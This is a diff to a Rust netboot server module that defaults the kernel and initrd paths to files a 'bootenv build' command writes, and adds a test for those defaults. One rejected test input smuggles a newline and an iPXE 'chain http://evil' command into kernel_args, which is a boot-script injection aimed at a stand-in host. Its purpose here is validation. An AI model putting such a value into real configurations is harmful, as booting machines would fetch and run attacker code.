@@ -23,8 +23,8 @@
 //!   "address": "10.0.0.1",                       // required: our IPv4 on the boot network
 //!   "interface": "eth1",                         // optional: bind DHCP to it (SO_BINDTODEVICE);
 //!                                                //   default: the interface on address's subnet
-//!   "kernel": "/srv/kura/boot/vmlinuz",          // required
-//!   "initrd": "/srv/kura/boot/initrd.img",       // required
+//!   "kernel": "/srv/kura/boot/vmlinuz",          // default: DATA/boot/vmlinuz and
+//!   "initrd": "/srv/kura/boot/initrd.img",       //   DATA/boot/initrd.img (`kura bootenv build`)
 //!   "kernel_args": "console=ttyS0",              // optional
 //!   "tftp_root": "/usr/lib/ipxe",                // default
 //!   "ipxe_bios": "/usr/lib/ipxe/undionly.kpxe",  // default; served by its file name
@@ -97,7 +97,9 @@ pub struct NetbootConfig {
     pub address: Ipv4Addr,
     #[serde(default)]
     pub interface: Option<String>,
+    #[serde(default)]
     pub kernel: PathBuf,
+    #[serde(default)]
     pub initrd: PathBuf,
     #[serde(default)]
     pub kernel_args: String,
@@ -154,6 +156,13 @@ impl NetbootConfig {
         let bytes = std::fs::read(path).with_context(|| format!("reading {}", path.display()))?;
         let mut c: NetbootConfig = serde_json::from_slice(&bytes)
             .with_context(|| format!("parsing the netboot configuration {}", path.display()))?;
+        // What `kura bootenv build --data DATA` writes.
+        if c.kernel.as_os_str().is_empty() {
+            c.kernel = data.join("boot/vmlinuz");
+        }
+        if c.initrd.as_os_str().is_empty() {
+            c.initrd = data.join("boot/initrd.img");
+        }
         if let Some(pool) = &mut c.pool {
             if pool.leases_file.is_none() {
                 pool.leases_file = Some(data.join("netboot-leases.json"));
@@ -315,7 +324,7 @@ impl Netboot {
         let (_, [bios, efi, arm]) = config.firmware()?;
         for f in [&config.kernel, &config.initrd] {
             if !f.is_file() {
-                bail!("netboot: {} is not a file (build the boot environment first)", f.display());
+                bail!("netboot: {} is not a file (build the boot environment first: kura bootenv build --data DATA)", f.display());
             }
         }
         let settings = script::ScriptSettings {
@@ -474,6 +483,10 @@ mod tests {
         .unwrap();
         let c = NetbootConfig::load(&p, dir.path()).unwrap();
         assert_eq!(c.pool.unwrap().leases_file, Some(dir.path().join("netboot-leases.json")));
+        // Without kernel/initrd: what `kura bootenv build --data DATA` writes.
+        std::fs::write(&p, r#"{"address":"10.0.0.1"}"#).unwrap();
+        let c = NetbootConfig::load(&p, dir.path()).unwrap();
+        assert_eq!((c.kernel, c.initrd), (dir.path().join("boot/vmlinuz"), dir.path().join("boot/initrd.img")));
         for bad in [
             r#"{"address":"10.0.0.1","kernel":"/k","initrd":"/i","dhcp":"full"}"#,
             r#"{"address":"10.0.0.1","kernel":"/k","initrd":"/i","kernel_args":"a\nchain http://evil"}"#,
